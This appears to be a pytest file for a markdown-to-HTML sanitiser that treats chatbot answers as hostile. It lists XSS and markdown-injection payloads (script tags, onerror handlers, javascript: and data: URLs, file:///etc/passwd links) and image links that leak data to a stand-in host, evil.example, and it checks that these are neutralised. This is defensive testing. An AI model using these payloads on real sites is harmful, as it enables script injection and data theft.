"""Answers are hostile input: whatever a bot repeats, the page stays ours."""

from __future__ import annotations

import re

import pytest

from wopr.web.markdown import to_html

HOSTILE = [
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "<svg/onload=alert(1)>",
    "<iframe src='javascript:alert(1)'></iframe>",
    "<a href='javascript:alert(1)'>click</a>",
    "[click](javascript:alert(1))",
    "[click](JaVaScRiPt:alert(1))",
    "[click](java\nscript:alert(1))",
    "[click](&#106;avascript:alert(1))",
    "[click](\x01javascript:alert(1))",
    "[click](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "[click](vbscript:msgbox(1))",
    "[click](file:///etc/passwd)",
    "[click](/sign-out)",
    "[click](//evil.example/x)",
    "[click]('onmouseover=alert(1))",
    "![x](https://evil.example/leak?q=secret)",
    "![x](//evil.example/leak)",
    "![x][1]\n\n[1]: https://evil.example/leak",
    "![x](data:image/svg+xml;base64,PHN2Zz4=)",
    '![a"onerror="alert(1)](https://evil.example/a.png)',
    "[![x](https://evil.example/leak)](https://evil.example)",
    "<https://evil.example/\"onclick='alert(1)'>",
    "<javascript:alert(1)>",
    "<style>*{background:url(https://evil.example)}</style>",
    "<link rel=stylesheet href=https://evil.example>",
    "<meta http-equiv=refresh content='0;url=https://evil.example'>",
    "<base href=https://evil.example>",
    "<form action=https://evil.example><input name=password></form>",
    "<math><mtext></mtext><mglyph><style><img src=x onerror=alert(1)></style></math>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "```html\n<script>alert(1)</script>\n```",
    '```js"onload=alert(1)\nx\n```',
    "`<script>alert(1)</script>`",
    "| <script>alert(1)</script> |\n| --- |\n| <img src=x onerror=alert(1)> |",
    "# <img src=x onerror=alert(1)>",
    "> <script>alert(1)</script>",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "<!--><script>alert(1)</script>-->",
    "<x" * 5000,
    "[" * 5000,
    "> " * 5000 + "deep",
    "\u202ejavascript:alert(1)",
    "<div id=main class=banner>Your password is wrong</div>",
]
TAG = re.compile(r"<(/?)([a-zA-Z0-9]+)((?:\s[^>]*)?)>")
ALLOWED = {
    *("p", "br", "hr", "strong", "em", "s", "code", "pre", "blockquote", "ul", "ol", "li", "a"),
    *("h1", "h2", "h3", "h4", "h5", "h6", "table", "thead", "tbody", "tr", "th", "td"),
}


@pytest.mark.parametrize("answer", HOSTILE)
def test_a_hostile_answer_leaves_only_harmless_tags(answer: str) -> None:
    html = str(to_html(answer))
    for _, tag, attributes in TAG.findall(html):
        assert tag.lower() in ALLOWED, html[:200]
        names = set(re.findall(r"([a-zA-Z-]+)=\"", attributes))
        ours = {"tabindex"} if (tag, attributes.strip()) == ("pre", 'tabindex="0"') else set()
        assert names - ours <= {"href", "title", "rel", "class", "start"}, attributes
    for address in re.findall(r"href=\"([^\"]*)\"", html):
        assert re.match(r"^(https?:|mailto:)", address), address


def test_images_become_links_that_say_so() -> None:
    html = str(to_html("![a cat](https://example.com/cat.png)"))
    assert "<img" not in html
    assert 'href="https://example.com/cat.png"' in html
    assert "Image: a cat" in html


def test_links_do_not_tell_where_they_were_clicked() -> None:
    assert 'rel="noopener noreferrer nofollow"' in to_html("[x](https://example.com)")


def test_ordinary_markdown_survives() -> None:
    html = str(to_html("**bold** `code`\n\n1. one\n2. two\n\n```python\nprint(1)\n```\n\n| a |\n| - |\n| b |"))
    for part in ("<strong>bold</strong>", "<code>code</code>", "<ol>", "<table>", 'class="language-python"'):
        assert part in html


def test_html_in_an_answer_is_shown_as_text() -> None:
    assert "&lt;b&gt;" in to_html("<b>not bold</b>")


def test_a_very_long_answer_is_cut_rather_than_parsed_for_ever() -> None:
    assert len(to_html("word " * 200_000)) < 300_000
